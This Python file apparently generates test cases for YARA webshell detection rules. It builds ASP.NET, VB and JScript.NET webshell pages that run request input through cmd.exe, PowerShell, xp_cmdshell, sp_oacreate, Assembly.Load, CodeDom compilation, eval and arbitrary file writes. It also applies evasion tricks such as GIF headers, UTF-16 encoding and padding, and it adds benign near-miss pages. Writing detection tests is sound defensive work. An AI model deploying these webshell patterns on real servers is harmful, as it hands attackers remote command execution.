"""Generated ASP.NET (ASPX/ASHX, C# and JScript.NET) webshell cases: input path x sink x transform x
wrapper x padding. Telling tokens are written in pieces (``t(...)``) so that this file matches no
rule. Comments go between statements and arguments (not between a member access's tokens)."""

from __future__ import annotations

from collections.abc import Callable, Iterator

from tests.unit.detection.yara.webshell_cases import Case, crossed, t

OPEN, CLOSE = t("<", "%"), t("%", ">")
REQ = t("Req", "uest")
RUNAT = t("run", "at") + '="server"'

# --- input paths: (setup statements, expression) from a parameter-name expression --------------
Input = Callable[[str], tuple[list[str], str]]
INPUTS: dict[str, Input] = {
    "form": lambda n: ([], f"{REQ}.Form[{n}]"),
    "querystring": lambda n: ([], f"{REQ}.QueryString[{n}]"),
    "item": lambda n: ([], f"{REQ}[{n}]"),
    "params": lambda n: ([], f"{REQ}.Params[{n}]"),
    "cookies": lambda n: ([], f"{REQ}.Cookies[{n}].Value"),
    "headers": lambda n: ([], f"{REQ}.Headers[{n}]"),
    "textbox": lambda n: ([], "txtCmd." + t("Te", "xt")),
    "variable": lambda n: ([f"string v = {REQ}.Form[{n}];"], "v"),
    "session": lambda n: ([f'Session["k"] = {REQ}.Form[{n}];'], '(string)Session["k"]'),
}

NAME_TRANSFORMS: dict[str, Callable[[str], str]] = {
    "none": lambda s: f'"{s}"',
    "split": lambda s: f'"{s[:2]}" + "{s[2:]}"',
    "chr": lambda s: "new string(new char[] {" + ", ".join(f"(char){ord(c)}" for c in s) + "})",
    "reverse": lambda s: f'new string(Array.Reverse("{s[::-1]}".ToCharArray()))',
    "replace": lambda s: f'"{s[:1]}Zq{s[1:]}".Replace("Zq", "")',
    "base64": lambda s: f'"{s}"',
    "comments": lambda s: f'/* p */ "{s}" /* q */',
    "case": lambda s: f'"{s}"',
}
TRANSFORMS = list(NAME_TRANSFORMS)
B64 = "System.Text.Encoding.UTF8.GetString(Convert." + t("FromBase64", "String") + "({}))"

# --- sinks: C# statements from the input expression ----------------------------------------------
Sink = Callable[[str], list[str]]
SINKS: dict[str, tuple[str, Sink]] = {
    "processstartinfo": (
        "aspx.process",
        lambda e: [
            f'var psi = new System.Diagnostics.{t("ProcessStart", "Info")}("{t("cmd", ".exe")}", "/c " + {e});',
            "psi.RedirectStandardOutput = true; psi.UseShellExecute = false;",
            f"Response.Write(System.Diagnostics.{t('Process.St', 'art')}(psi).StandardOutput.ReadToEnd());",
        ],
    ),
    "new-process": (
        "aspx.process",
        lambda e: [
            f"var p = new System.Diagnostics.{t('Proc', 'ess')}();",
            f'p.StartInfo.FileName = "{t("power", "shell.exe")}";',
            f'p.StartInfo.Arguments = "-nop -c " + {e};',
            "p.StartInfo.UseShellExecute = false; p.StartInfo.RedirectStandardOutput = true;",
            "p.Start();",
            "Response.Write(p.StandardOutput.ReadToEnd());",
        ],
    ),
    "xp-cmdshell": (
        "aspx.sql-command",
        lambda e: [
            'var cn = new System.Data.SqlClient.SqlConnection("server=.;uid=sa;pwd=x");',
            "cn.Open();",
            f"var cm = new System.Data.SqlClient.{t('Sql', 'Command')}("
            f'"exec master..{t("xp_cmd", "shell")} \'" + {e} + "\'", cn);',
            "var rd = cm.ExecuteReader();",
            "while (rd.Read()) Response.Write(rd[0]);",
        ],
    ),
    "sp-oacreate": (
        "aspx.sql-command",
        lambda e: [
            'var cn = new System.Data.SqlClient.SqlConnection("server=.;uid=sa;pwd=x");',
            "cn.Open();",
            f"var sql = \"declare @o int; exec {t('sp_oa', 'create')} 'wscript.shell', @o out; "
            f"exec sp_oamethod @o, 'run', null, '\" + {e} + \"'\";",
            "new System.Data.SqlClient.SqlCommand(sql, cn).ExecuteNonQuery();",
        ],
    ),
    "assembly-load": (
        "aspx.assembly-load",
        lambda e: [
            f"byte[] raw = Convert.{t('FromBase64', 'String')}({e});",
            f"var asm = System.Reflection.{t('Assembly.Lo', 'ad')}(raw);",
            'asm.CreateInstance("U").Equals(this);',
        ],
    ),
    "codedom": (
        "aspx.codedom",
        lambda e: [
            f"var prov = new Microsoft.CSharp.{t('CSharpCode', 'Provider')}();",
            "var cp = new System.CodeDom.Compiler.CompilerParameters(); cp.GenerateInMemory = true;",
            f"var res = prov.{t('CompileAssembly', 'FromSource')}(cp, {e});",
            'res.CompiledAssembly.CreateInstance("U");',
        ],
    ),
    "file-writer": (
        "aspx.file-writer",
        lambda e: [
            f'System.IO.File.{t("WriteAll", "Text")}(Server.MapPath({e}), {REQ}.Form["body"]);',
            'Response.Write("saved");',
        ],
    ),
    "jscript-eval": ("aspx.jscript-eval", lambda e: [f'Response.Write({t("ev", "al")}({e}, "{t("uns", "afe")}"));']),
}
JSCRIPT_SINKS = {"jscript-eval"}

# --- wrappers and padding ------------------------------------------------------------------------
WRAPPERS = ("script-block", "inline", "html", "gif", "utf16", "handler")


def directive(language: str, mixed: bool) -> str:
    text = f'{OPEN}@ Page Language="{language}" {CLOSE}\n'
    if mixed:
        text = f'{OPEN}@ pAgE lAnGuAgE="{language.lower()}" {CLOSE}\n'
    return text


def benign_padding(size: int = 50_000) -> str:
    rows, i = [], 0
    while sum(map(len, rows)) < size:
        rows.append(f'<asp:Label ID="lbl{i}" {RUNAT} Text="Class {i}" /><br />\n')
        i += 1
    return '<div class="roster">\n' + "".join(rows) + "</div>\n"


def build(
    statements: list[str], *, language: str, wrapper: str, textbox: bool, padded: bool, comments: bool, mixed: bool
) -> tuple[str, bytes]:
    if comments:
        statements = [x for s in statements for x in ("/* audit */", s)]
    body = "\n    ".join(statements)
    padding = benign_padding() if padded else ""
    if wrapper == "handler" and not textbox and language == "C#":
        page = (
            f'{OPEN}@ WebHandler Language="C#" Class="H" {CLOSE}\nusing System; using System.Web;\n'
            + padding.replace("<", "// <")
            + "public class H : IHttpHandler {\n  public bool IsReusable { get { return false; } }\n"
            "  public void ProcessRequest(HttpContext context) {\n    var Response = context.Response;"
            f" var {REQ} = context.{REQ}; var Session = context.Session;\n    {body}\n  }}\n}}\n"
        )
        return "h.ashx", page.encode("utf-8")
    head = directive(language, mixed)
    if wrapper == "inline" and not textbox:
        code = f"{OPEN}\n    {body}\n{CLOSE}\n"
    else:
        if language == "VB":
            code = f"<script {RUNAT}>\nSub Go(s As Object, e As EventArgs)\n    {body}\nEnd Sub\n</script>\n"
        else:
            handler = "void Go(object s, EventArgs e)" if language == "C#" else "function Go(s, e)"
            code = f"<script {RUNAT}>\n{handler} {{\n    {body}\n}}\n</script>\n"
    form = ""
    if textbox:
        form = (
            f'<form {RUNAT}><asp:TextBox ID="txtCmd" {RUNAT} />'
            f'<asp:Button ID="b" {RUNAT} Text="Run" OnClick="Go" /></form>\n'
        )
    page = head + padding + code + form
    if mixed:
        page = page.replace(RUNAT, t("RUN", "AT") + '="Server"')
    if wrapper == "html":
        page = head + f"<html><body>\n<h1>Status</h1>\n{padding}{code}{form}</body></html>\n"
    if wrapper == "gif":
        page = "GIF89a\x01\x00\x01\x00\n" + page
    if wrapper == "utf16":
        return "x.aspx", page.encode("utf-16")
    return "x.aspx", page.encode("utf-8")


def make(input_name: str, sink: str, transform: str, wrapper: str, padded: bool) -> Case:
    technique, sink_fn = SINKS[sink]
    setup, expr = INPUTS[input_name](NAME_TRANSFORMS[transform]("cmd"))
    if transform == "base64" and sink != "assembly-load":
        expr = B64.format(expr)
    language = "JScript" if sink in JSCRIPT_SINKS else "C#"
    if language == "JScript":  # JScript.NET declarations
        setup = [s.replace("string v =", "var v : String =").replace("(string)", "String") for s in setup]
        expr = (
            expr.replace("(string)Session", "String(Session").replace('["k"]', '["k"])') if "Session" in expr else expr
        )
    name, content = build(
        setup + sink_fn(expr),
        language=language,
        wrapper=wrapper,
        textbox=input_name == "textbox",
        padded=padded,
        comments=transform == "comments",
        mixed=transform == "case",
    )
    variant = (
        f"input={input_name} sink={sink} transform={transform} wrapper={wrapper} padding={'50k' if padded else 'none'}"
    )
    return Case(technique, variant, "aspx", name, content)


NEAR_MISSES: dict[str, list[str]] = {
    "textbox-sql-parameters": [
        'var cm = new System.Data.SqlClient.SqlCommand("SELECT name FROM students WHERE class = @c", cn);',
        'cm.Parameters.AddWithValue("@c", txtCmd.TEXT);',
        "gv.DataSource = cm.ExecuteReader(); gv.DataBind();",
    ],
    "process-fixed": [f'System.Diagnostics.{t("Process.St", "art")}("iisreset", "/restart");', 'lblMsg.TEXT = "ok";'],
    "assembly-partial-name": [
        'var a = System.Reflection.Assembly.LoadWithPartialName("System.Data");',
        'lbl.TEXT = a.FullName + REQ.QueryString["q"];',
    ],
    "echo": ['Response.Write(Server.HtmlEncode(REQ.Form["q"]));', "lbl.TEXT = txtCmd.TEXT;"],
    "base64-avatar": [
        'byte[] img = Convert.FROMB64(REQ.Form["img"]);',
        'Response.ContentType = "image/png"; Response.BinaryWrite(img);',
    ],
}


VB_INPUTS: dict[str, Callable[[str], tuple[list[str], str]]] = {
    "form": lambda n: ([], f"{REQ}.Form({n})"),
    "querystring": lambda n: ([], f"{REQ}.QueryString({n})"),
    "item": lambda n: ([], f"{REQ}({n})"),
    "textbox": lambda n: ([], "txtCmd." + t("Te", "xt")),
    "variable": lambda n: ([f"Dim v As String = {REQ}.Form({n})"], "v"),
    "session": lambda n: ([f'Session("k") = {REQ}.Form({n})'], 'CStr(Session("k"))'),
}
VB_TRANSFORMS: dict[str, Callable[[str], str]] = {
    "none": lambda s: f'"{s}"',
    "split": lambda s: f'"{s[:2]}" & "{s[2:]}"',
    "chr": lambda s: " & ".join(f"ChrW({ord(c)})" for c in s),
    "reverse": lambda s: f'StrReverse("{s[::-1]}")',
    "comments": lambda s: f'"{s}"',
    "case": lambda s: f'"{s}"',
}
VB_SINKS: dict[str, Callable[[str], list[str]]] = {
    "processstartinfo": lambda e: [
        f'Dim psi As New System.Diagnostics.{t("ProcessStart", "Info")}("{t("cmd", ".exe")}", "/c " & {e})',
        "psi.RedirectStandardOutput = True : psi.UseShellExecute = False",
        f"Response.Write(System.Diagnostics.{t('Process.St', 'art')}(psi).StandardOutput.ReadToEnd())",
    ],
    "new-process": lambda e: [
        f"Dim p As New System.Diagnostics.{t('Proc', 'ess')}()",
        f'p.StartInfo.FileName = "{t("power", "shell.exe")}"',
        f"p.StartInfo.Arguments = {e}",
        "p.Start()",
    ],
}


def vb_cases() -> Iterator[Case]:
    """VB.NET pages (Language="VB"): parentheses for indexers, & for concatenation, ' comments."""
    k = 0
    for input_name, input_fn in VB_INPUTS.items():
        for transform, name_fn in VB_TRANSFORMS.items():
            sink = list(VB_SINKS)[k % len(VB_SINKS)]
            setup, expr = input_fn(name_fn("cmd"))
            statements = setup + VB_SINKS[sink](expr)
            if transform == "comments":
                statements = [x for s in statements for x in ("' audit", s)]
            wrapper = ("script-block", "html", "gif", "utf16")[k % 4]
            name, content = build(
                statements,
                language="VB",
                wrapper=wrapper,
                textbox=input_name == "textbox",
                padded=k % 3 == 0,
                comments=False,
                mixed=transform == "case",
            )
            variant = f"language=VB input={input_name} sink={sink} transform={transform} wrapper={wrapper}"
            yield Case("aspx.process", variant, "aspx", name, content)
            k += 1


def near_misses() -> Iterator[Case]:
    for label, statements in NEAR_MISSES.items():
        statements = [
            s.replace("TEXT", t("Te", "xt")).replace("REQ", REQ).replace("FROMB64", t("FromBase64", "String"))
            for s in statements
        ]
        for wrapper in ("script-block", "utf16", "html"):
            for padded in (False, True):
                name, content = build(
                    statements,
                    language="C#",
                    wrapper=wrapper,
                    textbox=True,
                    padded=padded,
                    comments=False,
                    mixed=False,
                )
                yield Case("aspx.near-miss", f"{label} wrapper={wrapper} padded={padded}", "aspx", name, content, False)
    client_eval = (
        directive("C#", False)
        + "<html><body><script>var cfg = eval('(' + json + ')');</script>\n"
        + f'{OPEN}= Server.HtmlEncode({REQ}.QueryString["page"]) {CLOSE}\n</body></html>\n'
    )
    yield Case("aspx.near-miss", "client-side eval", "aspx", "list.aspx", client_eval.encode(), False)


def cases() -> Iterator[Case]:
    yield from crossed(make, list(INPUTS), list(SINKS), TRANSFORMS, WRAPPERS)
    yield from vb_cases()
    yield from near_misses()
